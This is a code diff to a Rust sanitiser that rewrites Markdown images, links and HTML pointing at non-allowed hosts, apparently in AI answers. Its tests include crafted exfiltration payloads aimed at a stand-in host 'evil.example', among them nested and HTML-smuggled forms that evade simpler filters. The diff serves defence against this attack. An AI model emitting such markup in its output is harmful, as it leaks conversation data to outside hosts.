@@ -11,48 +11,91 @@
 //! Text inside code spans and code blocks is never changed. URLs written as plain text are left
 //! alone: no client fetches them without a click.
 
-use pulldown_cmark::{Event, LinkType, Options, Parser, Tag};
+use pulldown_cmark::{Event, LinkType, Options, Parser, Tag, TagEnd};
 use std::ops::Range;
 
+/// Most rewriting passes before the fallback.
+const MAX_PASSES: usize = 8;
+
 /// Rewrites `answer` as the module describes; unchanged text is returned as it came.
+///
+/// One pass can uncover markup: escaping an HTML-like span (`<!a ![x](http://…)`) turns what it
+/// swallowed back into Markdown. So passes repeat until nothing changes; should that not happen
+/// within [`MAX_PASSES`], every image opener and tag opener is escaped outright.
 pub fn neutralise(answer: &str, allowed_hosts: &[String]) -> String {
+    let mut current = answer.to_string();
+    for _ in 0..MAX_PASSES {
+        let next = neutralise_once(&current, allowed_hosts);
+        if next == current {
+            return next;
+        }
+        current = next;
+    }
+    current.replace("![", "!\\[").replace('<', "&lt;")
+}
+
+/// A link or image whose end has not been seen yet.
+struct Open {
+    range: Range<usize>,
+    image: bool,
+    url: String,
+    link_type: LinkType,
+    text: String,
+}
+
+fn neutralise_once(answer: &str, allowed_hosts: &[String]) -> String {
     let mut edits: Vec<(Range<usize>, String)> = Vec::new();
-    let mut open: Option<(Range<usize>, bool, String, LinkType)> = None;
-    let mut inner_text = String::new();
+    // Links and images nest (an image in a link's text, or in another image's alt text).
+    let mut open: Vec<Open> = Vec::new();
     let parser = Parser::new_ext(
         answer,
         Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH,
     );
     for (event, range) in parser.into_offset_iter() {
         match event {
-            Event::Start(Tag::Image { dest_url, .. }) if open.is_none() => {
-                inner_text.clear();
-                open = Some((range, true, dest_url.to_string(), LinkType::Inline));
-            }
+            Event::Start(Tag::Image { dest_url, .. }) => open.push(Open {
+                range,
+                image: true,
+                url: dest_url.to_string(),
+                link_type: LinkType::Inline,
+                text: String::new(),
+            }),
             Event::Start(Tag::Link {
                 dest_url,
                 link_type,
                 ..
-            }) if open.is_none() => {
-                inner_text.clear();
-                open = Some((range, false, dest_url.to_string(), link_type));
-            }
-            Event::End(_) if open.as_ref().is_some_and(|(r, ..)| r.end == range.end) => {
-                let (range, image, url, link_type) = open.take().expect("checked above");
-                if allowed(&url, allowed_hosts) {
+            }) => open.push(Open {
+                range,
+                image: false,
+                url: dest_url.to_string(),
+                link_type,
+                text: String::new(),
+            }),
+            Event::End(TagEnd::Image | TagEnd::Link) => {
+                let Some(done) = open.pop() else { continue };
+                if let Some(outer) = open.last_mut() {
+                    outer.text.push_str(&done.text);
+                }
+                if allowed(&done.url, allowed_hosts) {
                     continue;
                 }
-                let replacement = if image {
-                    format!("[image: {}]", inner_text.trim())
-                } else if matches!(link_type, LinkType::Autolink | LinkType::Email) {
-                    host(&url).unwrap_or("link").to_string()
+                let replacement = if done.image {
+                    format!("[image: {}]", done.text.trim())
+                } else if matches!(done.link_type, LinkType::Autolink | LinkType::Email) {
+                    host(&done.url).unwrap_or("link").to_string()
                 } else {
-                    inner_text.clone()
+                    done.text
                 };
-                edits.push((range, replacement));
+                edits.push((done.range, replacement));
             }
-            Event::Text(text) | Event::Code(text) if open.is_some() => inner_text.push_str(&text),
-            Event::Html(html) | Event::InlineHtml(html) if open.is_none() => {
+            Event::Text(text) | Event::Code(text) => {
+                if let Some(innermost) = open.last_mut() {
+                    innermost.text.push_str(&text);
+                }
+            }
+            // Also inside a link that is kept (its text may hold a tag); inside one that is
+            // replaced, the replacement wins.
+            Event::Html(html) | Event::InlineHtml(html) => {
                 edits.push((range, html.replace('<', "&lt;")));
             }
             _ => {}
@@ -89,7 +132,9 @@ fn allowed(url: &str, allowed_hosts: &[String]) -> bool {
                 .chars()
                 .all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c))
     });
-    if !has_scheme && !url.starts_with("//") {
+    // Relative only when nothing in it could be read as a host (found by the fuzz suite:
+    // `![](![x](http://…))` has the destination `![x](http://…`).
+    if !has_scheme && !url.contains("//") && !url.contains('\\') {
         return true;
     }
     let Some(host) = host(url) else {
@@ -138,7 +183,27 @@ mod tests {
                       ![map](https://cdn.docs.crowdvision.io/m.png) and `![x](http://e/c)`.";
         assert_eq!(neutralise(answer, &hosts(&["docs.crowdvision.io"])), answer);
         let fenced = "```\n![x](http://evil/c)\n```\n";
+        assert_eq!(
+            neutralise("![](![x](http://evil.example/c))", &[]),
+            "[image: ]"
+        );
+        assert_eq!(
+            neutralise("![![x](http://evil.example/c?d=1)](.)", &[]),
+            "![[image: x]](.)"
+        );
+        assert_eq!(
+            neutralise("[<img src=\"http://e\">](user/a.md)", &[]),
+            "[&lt;img src=\"http://e\">](user/a.md)"
+        );
         assert_eq!(neutralise(fenced, &[]), fenced);
+    }
+
+    #[test]
+    fn markup_uncovered_by_escaping_is_neutralised_too() {
+        // Found by the fuzz suite: the HTML-like span swallowed the image on the first pass.
+        let answer = "]<!a![x](http://evil.example/c?d=1)<https://evil.example/a>";
+        let out = neutralise(answer, &[]);
+        assert!(!out.contains("](http"), "{out}");
     }
 
     #[test]
